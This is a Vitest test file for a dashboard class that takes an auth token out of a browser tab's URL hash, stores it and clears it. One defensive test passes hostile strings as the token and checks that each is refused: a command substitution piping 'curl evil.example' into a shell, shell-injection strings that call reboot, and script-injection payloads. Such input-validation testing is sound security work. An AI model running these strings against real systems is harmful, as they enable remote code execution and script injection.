import { describe, expect, it } from "vitest";
import { TabToken } from "../../dashboard/client/tab-token.ts";

/** A tab of a browser: its address, its history, what it keeps. */
function tab(hash: string, kept = new Map<string, string>()) {
  const location = { hash, pathname: "/hub/", search: "" };
  const addresses: string[] = [];
  const history = {
    replaceState(_: unknown, __: string, url?: string | URL | null) {
      addresses.push(String(url));
      location.hash = String(url).slice(String(url).indexOf("#"));
    },
  };
  const storage = {
    getItem: (key: string) => kept.get(key) ?? null,
    setItem: (key: string, value: string) => void kept.set(key, value),
    removeItem: (key: string) => void kept.delete(key),
  };
  return { ports: { location, history, storage }, location, addresses, kept };
}

describe("the token of a tab", () => {
  it("[S3] is taken out of the address, which no longer has it", () => {
    const { ports, addresses, kept } = tab("#token=k3j9-x2mq");
    expect(new TabToken(ports).value).toBe("k3j9-x2mq");
    expect(addresses).toEqual(["/hub/#/"]);
    expect(new TabToken(tab("#/device/a", kept).ports).value).toBe("k3j9-x2mq");
  });

  it.each([
    "$(curl evil.example|sh)",
    "';reboot;'",
    "%27%3Breboot%3B%27",
    "</script><script>alert(1)</script>",
    '"+alert(1)+"',
    "a\nb",
    "%0a",
    "",
    "a".repeat(200),
  ])(
    "takes nothing from a foreign link that is no token, for the programs that people copy have it in them: %s",
    (text) => {
      const kept = new Map([["hub-token", "k3j9-x2mq"]]);
      const { ports, addresses } = tab(`#token=${text}`, kept);
      expect(new TabToken(ports).value).toBe("k3j9-x2mq");
      expect(addresses).toEqual(["/hub/#/"]);
    },
  );

  it("leaves every other address as it is", () => {
    for (const hash of ["", "#/", "#/device/token=1", "#/connect"]) {
      const { ports, addresses } = tab(hash);
      expect(new TabToken(ports).value).toBeUndefined();
      expect(addresses).toEqual([]);
    }
  });

  it("is what a person typed, or the address that it was pasted in; forgotten for good", () => {
    const { ports, kept } = tab("");
    const token = new TabToken(ports);
    token.keep("  k3j9-x2mq\n");
    expect(token.value).toBe("k3j9-x2mq");
    token.keep("http://192.168.1.5:8080/#token=zz99");
    expect(token.value).toBe("zz99");
    token.keep("#token=%zz");
    expect(token.value).toBe("%zz");
    token.forget();
    expect(token.value).toBeUndefined();
    expect(kept.size).toBe(0);
  });

  it("lives in the page alone where the browser keeps nothing", () => {
    const { ports } = tab("#token=a");
    expect(new TabToken({ ...ports, storage: undefined }).value).toBe("a");
  });
});
